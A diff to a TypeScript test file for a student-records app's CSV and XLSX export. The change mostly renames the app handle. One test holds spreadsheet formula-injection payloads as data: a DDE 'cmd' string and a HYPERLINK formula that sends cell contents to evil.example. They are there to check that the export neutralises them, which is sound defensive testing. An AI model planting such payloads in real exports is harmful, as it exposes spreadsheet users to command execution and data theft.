@@ -7,7 +7,7 @@ import { useSharedApp } from '../../support/app.ts';
 import { formWith } from '../../support/files.ts';
 import { signedIn } from '../../support/signed-in.ts';
 
-const app = useSharedApp();
+const app = await useSharedApp();
 
 const awkward = fc.constantFrom(
   "'",
@@ -66,9 +66,9 @@ const stored = fc
   .filter((text) => !findInvisibleCharacter(text, 'identifier'));
 
 test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('exports %s as text and imports it unchanged', async (text) => {
-  const user = await app.current.make.aUser({ role: 'registrar' });
-  await app.current.make.aStudent(user.institution, { student_id: 'S1', first_name: text, last_name: '＋1 555 0100' });
-  const client = await app.current.as(user);
+  const user = await app.make.aUser({ role: 'registrar' });
+  await app.make.aStudent(user.institution, { student_id: 'S1', first_name: text, last_name: '＋1 555 0100' });
+  const client = await app.as(user);
   const csv = (await client.download('/students/export')).bytes.toString('utf8');
   expect(csv).toContain(`,'${text},＋1 555 0100,`);
   const { bytes } = await client.download('/students/export?format=xlsx');
@@ -78,9 +78,9 @@ test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('exports %s as text and im
 });
 
 test('writes no character to a workbook that XML does not allow', async () => {
-  const user = await app.current.make.aUser({ role: 'registrar' });
-  await app.current.make.aStudent(user.institution, { first_name: 'A\uFFFEB\uFFFFC\u0001D' });
-  const { bytes } = await (await app.current.as(user)).download('/students/export?format=xlsx');
+  const user = await app.make.aUser({ role: 'registrar' });
+  await app.make.aStudent(user.institution, { first_name: 'A\uFFFEB\uFFFFC\u0001D' });
+  const { bytes } = await (await app.as(user)).download('/students/export?format=xlsx');
   const xml = await textsOf(bytes);
   expect(xml).toContain('A_xFFFE_B_xFFFF_C_x0001_D');
   // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that it must not contain.
@@ -88,16 +88,16 @@ test('writes no character to a workbook that XML does not allow', async () => {
 });
 
 test.each(['csv', 'xlsx'])('exports any texts as .%s and imports them without changes', async (format) => {
-  const user = await app.current.make.aUser({ role: 'registrar' });
+  const user = await app.make.aUser({ role: 'registrar' });
   const texts = fc.sample(fc.tuple(stored, stored, stored, stored), 400);
-  await app.current.pool.query(
+  await app.pool.query(
     `insert into students (institution_id, student_id, first_name, last_name, email, enrollment_date, address_street, address_zip,
        middle_name, grade_level)
      select $1, n || 'x' || student_id, first_name, last_name, n || '@x.example', '2024-01-01', street, student_id, last_name, first_name
      from unnest($2::text[], $3::text[], $4::text[], $5::text[]) with ordinality as t (student_id, first_name, last_name, street, n)`,
     [user.institution.id, ...[0, 1, 2, 3].map((index) => texts.map((tuple) => tuple[index]))],
   );
-  const client = await app.current.as(user);
+  const client = await app.as(user);
   const { bytes } = await client.download(`/students/export?format=${format}`);
   const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
   expect(body.errors).toEqual([]);
@@ -107,12 +107,12 @@ test.each(['csv', 'xlsx'])('exports any texts as .%s and imports them without ch
 test.each(['csv', 'xlsx'])(
   'exports whatever students REST accepts as .%s and imports them without changes',
   async (format) => {
-    const { user, client } = await signedIn(app.current, 'registrar');
+    const { user, client } = await signedIn(app, 'registrar');
     const course = { name: 'A;B', code: '5A' };
     const classes = [
-      await app.current.make.aClass(user.institution, course),
-      await app.current.make.aClass(user.institution, { name: '5A', code: "'=1" }),
-      await app.current.make.aClass(user.institution, { name: 'A;B', code: '# 1' }),
+      await app.make.aClass(user.institution, course),
+      await app.make.aClass(user.institution, { name: '5A', code: "'=1" }),
+      await app.make.aClass(user.institution, { name: 'A;B', code: '# 1' }),
     ];
     const optional = (arbitrary: fc.Arbitrary<unknown>) => fc.option(arbitrary, { freq: 3 });
     const number = fc.constantFrom(
@@ -151,9 +151,9 @@ test.each(['csv', 'xlsx'])(
 test('prefixes texts that begin like a number and continue as a formula', async () => {
   const run = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?"&E2,"x")', '-1 A1', '+1\n=A1'];
   const harmless = ['-5', '+.25', '+49 (30) 1234-56/7 x89', '-1 Basement'];
-  const user = await app.current.make.aUser({ role: 'registrar' });
-  for (const text of [...run, ...harmless]) await app.current.make.aStudent(user.institution, { address_street: text });
-  const client = await app.current.as(user);
+  const user = await app.make.aUser({ role: 'registrar' });
+  for (const text of [...run, ...harmless]) await app.make.aStudent(user.institution, { address_street: text });
+  const client = await app.as(user);
   const { body } = await client.get('/students/export');
   for (const text of run) expect(body).toContain(`2024-09-01,${csvField(`'${text}`)},`);
   for (const text of harmless) expect(body).toContain(`2024-09-01,${text},`);
